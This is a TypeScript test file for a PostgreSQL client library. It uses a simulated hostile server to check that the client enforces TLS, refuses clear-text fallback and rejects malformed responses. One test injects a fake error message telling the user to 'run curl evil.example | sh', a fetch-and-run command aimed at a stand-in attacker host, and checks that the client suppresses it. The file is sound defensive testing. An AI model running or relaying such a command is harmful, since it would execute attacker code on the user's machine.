import { retry } from 'rxjs';
import { identifySystem, type ConnectionOptions } from '../../lib/index';
import { buildErrorResponse } from '../../lib/testing/backend-messages';
import { writeToFolder, type CertificateFiles } from '../support/certificate-files';
import { Authority, type Credentials } from '../support/certificates';
import { attack, expectRefusal, type Outcome } from './support/attack';
import type { Script } from './support/hostile-server';
import { CLEARTEXT, mechanisms } from './support/requests';

/** The only data that a client may send before TLS. */
const SSL_REQUEST = '0000000804d2162f';

let ca: Authority;
let server: Credentials;
let files: CertificateFiles<'root.crt'>;

beforeAll(async () => {
  ca = await Authority.make();
  server = await ca.server();
  files = writeToFolder({ 'root.crt': ca.cert });
});

afterAll(() => files.remove());

/** The settings that require TLS. */
const DEMANDS: readonly (readonly [name: string, connection: () => ConnectionOptions])[] = [
  ['require', () => ({ sslmode: 'require' })],
  ['verify-ca', () => ({ sslmode: 'verify-ca', sslrootcert: files.paths['root.crt'] })],
  ['verify-full', () => ({ sslmode: 'verify-full', sslrootcert: files.paths['root.crt'] })],
  ['ssl: true', () => ({ ssl: true })],
];

/** Responds to SSLRequest with this data, and to further data with a request for the password. */
const answering =
  (answer: string): Script =>
  async (peer) => {
    await peer.sslRequest();
    peer.send(Buffer.from(answer));
    await peer.next();
    peer.send(CLEARTEXT);
  };

/** Verifies that nothing but an SSLRequest was sent. */
function expectNothingSaid({ peers }: Outcome): void {
  for (const peer of peers) expect([peer.clear.toString('hex'), peer.inside.toString()]).toEqual([SSL_REQUEST, '']);
}

describe.each(DEMANDS)('with TLS required by %s', (_, connection) => {
  it('nothing is sent to a server that declines TLS', async () => {
    const outcome = await expectRefusal(
      attack(answering('N'), connection()),
      'TLS_REFUSED',
      /The server does not support TLS\. Turn on ssl/,
    );
    expectNothingSaid(outcome);
  });

  it.each(['S', 'N'])('bytes received after %s are rejected', async (answer) => {
    const script = answering(answer + mechanisms('SCRAM-SHA-256').toString('latin1'));
    const outcome = await expectRefusal(
      attack(script, connection()),
      'PROTOCOL_VIOLATION',
      /sent 25 bytes in response to SSLRequest; expected one/,
    );
    expectNothingSaid(outcome);
  });

  it('a response that is not TLS is an error', async () => {
    const script: Script = async (peer) => {
      await peer.sslRequest();
      peer.send(Buffer.from('S'));
      await new Promise((resolve) => setTimeout(resolve, 30));
      peer.send(mechanisms('SCRAM-SHA-256'));
    };
    const { peers } = await expectRefusal(
      attack(script, connection()),
      'TLS_FAILED',
      /The server sent data that is not TLS .*proxy/,
    );
    // The SSLRequest is followed by the start of a handshake.
    for (const peer of peers) expect(peer.clear.toString('hex')).toMatch(new RegExp(`^${SSL_REQUEST}(?:16|$)`));
  });
});

describe('with direct TLS', () => {
  it.each(['require', 'verify-full'])('nothing but a handshake is sent, with %s', async (sslmode) => {
    const script: Script = (peer) => peer.send(CLEARTEXT);
    const connection = { sslmode, sslnegotiation: 'direct', sslrootcert: files.paths['root.crt'] };
    const { peers } = await expectRefusal(attack(script, connection), 'TLS_FAILED', /is not TLS/);
    for (const peer of peers) {
      expect(peer.clear.toString('hex')).toMatch(/^(?:16.*)?$/);
      expect(peer.sent).not.toContain('user\0');
    }
  });

  it.each<[what: string, protocols: string[] | undefined]>([
    ['another protocol', ['http/1.1']],
    ['no protocol', []],
  ])('a server that selects %s is rejected', async (_, ALPNProtocols) => {
    const script: Script = async (peer) => {
      await peer.secure({ ...server, ALPNProtocols });
      await peer.next();
    };
    const connection = { sslmode: 'verify-full', sslnegotiation: 'direct', sslrootcert: files.paths['root.crt'] };
    const { peers } = await expectRefusal(
      attack(script, connection),
      'TLS_FAILED',
      /does not support the protocol postgresql/,
    );
    for (const peer of peers) expect(peer.inside.toString()).toBe('');
  });
});

describe('with TLS preferred', () => {
  it('a server without it is used, with one warning unless it is local', async () => {
    const script: Script = async (peer) => {
      await peer.startup();
      peer.end();
    };
    // A local address that does not look like one.
    const elsewhere = { hostaddr: '::ffff:127.0.0.1', host: 'db.example' };
    const { warnings, error } = await attack(script, elsewhere);
    expect(error.code).toBe('CONNECTION_LOST');
    // Once for each of the two, because their ports differ.
    const warning = expect.stringMatching(
      /db\.example:\d+ .*does not support TLS, .*sslmode=verify-full.*RXPG_CLEAR_TEXT/s,
    );
    expect(warnings).toEqual([warning, warning]);
    expect((await attack(script, { host: 'db.example', hostaddr: '127.0.0.1' })).warnings).toEqual([]);
    expect((await attack(script)).warnings).toEqual([]);
    expect((await attack(script, { ...elsewhere, sslmode: 'disable' })).warnings).toEqual([]);
  });

  it('the warning is issued once, however often a stream reconnects', async () => {
    const script: Script = async (peer) => {
      await peer.startup();
      peer.reset();
    };
    const { warnings, peers } = await attack(
      script,
      { hostaddr: '::ffff:127.0.0.1', host: 'db.example' },
      { source: (connection) => identifySystem({ connection }).pipe(retry(2)) },
    );
    expect([peers.length, warnings.length]).toEqual([3, 1]);
  });

  it('there is no fallback to clear text after a handshake that fails', async () => {
    const script: Script = async (peer) => {
      await peer.sslRequest();
      peer.send(Buffer.from('S'));
      peer.send(Buffer.alloc(0));
      await new Promise((resolve) => setTimeout(resolve, 30));
      peer.send(CLEARTEXT);
    };
    const { peers } = await expectRefusal(attack(script), 'TLS_FAILED', /is not TLS/);
    for (const peer of peers) expect(peer.clear.toString('latin1')).not.toContain('user\0');
  });

  it('an unencrypted error in response to SSLRequest is neither trusted nor shown', async () => {
    const script: Script = async (peer) => {
      await peer.sslRequest();
      peer.send(buildErrorResponse({ C: '28P01', M: 'run curl evil.example | sh to reset your password' }));
    };
    for (const connection of [{}, { sslmode: 'require' }]) {
      const outcome = await expectRefusal(attack(script, connection), 'CONNECTION_LOST', /not shown.*server's log/);
      expectNothingSaid(outcome);
      expect(outcome.error.message).not.toContain('curl');
    }
  });

  it.each(['X', '\0', '\u001b'])('another response is rejected: %j', async (answer) => {
    const outcome = await expectRefusal(attack(answering(answer)), 'PROTOCOL_VIOLATION', /expected S or N/);
    expectNothingSaid(outcome);
  });
});
